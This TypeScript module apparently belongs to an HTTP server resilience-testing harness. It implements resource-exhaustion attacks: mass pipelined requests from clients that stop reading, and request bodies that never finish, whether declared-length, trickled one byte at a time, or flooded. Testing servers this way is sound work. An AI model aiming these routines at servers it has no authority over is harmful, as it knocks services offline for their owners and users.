import { type RawHttp1, requestFor } from '../../raw-http/raw-http1.ts'
import { type AttackReport, type AttackTarget, type HoldOptions, hold, repeat } from '../attack.ts'
import { ConnectionGroup } from '../connection-group.ts'

const CONCURRENCY = 16
const TRICKLE_MS = 100
const MAX_FLOOD_BYTES = 64 * 1024 * 1024

/** Pipelines requests. With `stalled` the client reads nothing, and its first request is for a large body. */
export async function pipelineRequests(
  target: AttackTarget,
  options: HoldOptions & { connections?: number; requests?: number; stalled?: boolean },
): Promise<AttackReport> {
  const { connections = 20, requests = 1000, stalled = false, signal } = options
  const group = new ConnectionGroup(target, signal)
  try {
    const { done, failed } = await repeat(
      { times: connections, concurrency: CONCURRENCY, signal },
      async () => {
        const client = await group.openHttp1({ reads: !stalled })
        if (stalled) await client.get(target.blob)
        // Not awaited: while the server does not read, a part of the requests stays unsent.
        void client.send(requestFor(target.manifest).repeat(requests))
      },
    )
    await hold(options)
    return { done, failed, received: group.received }
  } finally {
    group.close()
  }
}

/** `declared`: a Content-Length without a body; `chunked`: one byte at a time; `flood`: as fast as the server reads. */
export type EndlessBody = 'declared' | 'chunked' | 'flood'

/** Sends requests whose bodies never end. */
export async function endlessBodies(
  target: AttackTarget,
  options: HoldOptions & { body: EndlessBody; connections?: number; maxBytes?: number },
): Promise<AttackReport> {
  const { connections = 50, body, signal, maxBytes = MAX_FLOOD_BYTES } = options
  const group = new ConnectionGroup(target, signal)
  const timers: NodeJS.Timeout[] = []
  const floods: Promise<void>[] = []
  let remainingBytes = maxBytes
  const flood = async ({ socket }: RawHttp1): Promise<void> => {
    const chunk = `4000\r\n${'x'.repeat(0x4000)}\r\n`
    while (socket.isOpen && !signal.aborted && remainingBytes > 0) {
      remainingBytes -= chunk.length
      await socket.send(chunk)
    }
  }
  try {
    const { done, failed } = await repeat(
      { times: connections, concurrency: CONCURRENCY, signal },
      async () => {
        const client = await group.openHttp1()
        const length = body === 'declared' ? 'Content-Length: 1000000' : 'Transfer-Encoding: chunked'
        await client.get(target.manifest, `${length}\r\n`)
        if (body === 'chunked') timers.push(setInterval(() => void client.send('1\r\nx\r\n'), TRICKLE_MS))
        if (body === 'flood') floods.push(flood(client))
      },
    )
    await hold(options)
    return { done, failed, received: group.received, sent: maxBytes - remainingBytes }
  } finally {
    for (const timer of timers) clearInterval(timer)
    group.close()
    await Promise.all(floods)
  }
}
